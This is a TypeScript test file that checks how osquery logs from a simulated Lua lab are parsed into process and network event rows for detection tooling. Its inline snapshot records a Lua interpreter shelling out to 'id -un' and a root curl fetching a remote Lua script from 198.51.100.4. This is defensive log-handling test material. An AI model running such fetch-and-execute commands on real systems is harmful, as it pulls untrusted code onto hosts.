// osquery: the same laboratory, and the shapes of its log.
import { expect, test } from 'vitest';
import {
  brief,
  countActions,
  listExecutions,
  readRecords,
  readShape,
  rowLine,
  toLine,
} from '../../../test/harness/laboratory.ts';

/** How the tables join arguments: with one blank, nothing quoted. */
const plainly = (argv: readonly string[]): string => argv.join(' ');
const lines = (take = 255): readonly string[] =>
  listExecutions()
    .slice(0, take)
    .map((execution) => toLine(execution, plainly));

test('process_events: every execution, the command line as osquery joined it', async () => {
  const { rows, skipped, summary } = await readRecords(
    'osquery',
    readShape('osquery/lua-lab-process_events.results.log'),
  );
  expect(rows.map(rowLine)).toEqual(lines());
  expect([skipped, summary.records]).toEqual([[], 255]);
});

test.each([
  'osquery/lua-lab-batch.results.log',
  'osquery/lua-lab-bpf_process_events.results.log',
  'osquery/lua-lab.snapshots.log',
  'osquery/lua-lab-socket_events.results.log',
  'osquery/panther-differential.ndjson',
])('%s: rows by table and action', async (file) => {
  const { rows, skipped, summary } = await readRecords('osquery', readShape(file));
  expect([countActions(rows), summary, skipped]).toMatchSnapshot();
  const executed = rows.filter((row) => row.$table === 'DeviceProcessEvents');
  const known = new Set(lines().map((line) => line.split(' ', 3).join(' ')));
  for (const row of executed) expect(known).toContain(rowLine(row).split(' ', 3).join(' '));
});

test('macOS, old host names, numbers and rows that left', async () => {
  const { rows, summary } = await readRecords(
    'osquery',
    readShape('osquery/es_process_events-constructed.results.log'),
  );
  expect(rows.map(brief)).toMatchInlineSnapshot(`
    [
      "DeviceProcessEvents ProcessCreated | DeviceName=mac-01.example.net | Timestamp=2026-11-24T08:00:01.0000000Z | FileName=lua5.4 | FolderPath=/opt/homebrew/Cellar/lua/5.4.7/bin/lua5.4 | ProcessId=1300 | InitiatingProcessId=900 | ProcessCommandLine=lua5.4 -e "os.execute(\\"id -un\\")" | AccountName=alice | AdditionalFields={"ProcessCurrentWorkingDirectory":"/Users/alice","Uid":"501","EffectiveUid":"20","Query":"es_process_events","OriginalParentId":"900","ArgumentCount":"3","CdHash":"28cbc667390df4aa880ba163300d2b85f1b051e7","SigningId":"lua5.4","CodeSigningFlags":"NOT_RUNTIME, ADHOC","Environment":"PATH=/usr/bin:/bin"}",
      "DeviceProcessEvents ProcessCreated | DeviceName=mac-01.example.net | Timestamp=2026-11-24T08:00:01.0000000Z | FileName=sh | FolderPath=/bin/sh | ProcessId=1301 | InitiatingProcessId=1300 | ProcessCommandLine=sh -c "id -un" | AccountName=alice | AdditionalFields={"ProcessCurrentWorkingDirectory":"/Users/alice","Uid":"501","EffectiveUid":"20","Query":"es_process_events","OriginalParentId":"1300","ArgumentCount":"3","CdHash":"aef42fc7900bb81f3b672da9aa2b467acdfb613c","SigningId":"lua5.4","CodeSigningFlags":"NOT_RUNTIME, ADHOC","Environment":"PATH=/usr/bin:/bin"}",
      "DeviceProcessEvents ProcessCreated | DeviceName=linux-01 | Timestamp=2026-11-24T07:59:59.0000000Z | FileName=curl | FolderPath=/usr/bin/curl | ProcessId=30219 | InitiatingProcessId=4100 | ProcessCommandLine=curl -s http://198.51.100.4/a.lua | AccountName=0 | AdditionalFields={"ProcessCurrentWorkingDirectory":"/root","Uid":0,"EffectiveUid":0,"LoginUid":1000,"Syscall":"execve","Query":"pack-lab-process_events"} | ProcessCreationTime=2026-11-24T07:59:59.0000000Z | AccountDomain=linux-01 | ProcessTokenElevation=None",
      "DeviceNetworkEvents ConnectionSuccess | DeviceName=linux-01 | Timestamp=2026-11-24T07:59:59.0000000Z | RemoteIP=198.51.100.4 | RemotePort=80 | RemoteIPType=Public | InitiatingProcessId=30220 | InitiatingProcessFileName=curl | InitiatingProcessFolderPath=/usr/bin/curl | AdditionalFields={"LoginUid":"1000","Query":"pack/lab/socket_events"}",
    ]
  `);
  expect(summary).toMatchInlineSnapshot(`
    {
      "kind": "summary",
      "records": 7,
      "unneeded": {
        "es_process_events": 2,
        "processes (removed)": 1,
      },
    }
  `);
});
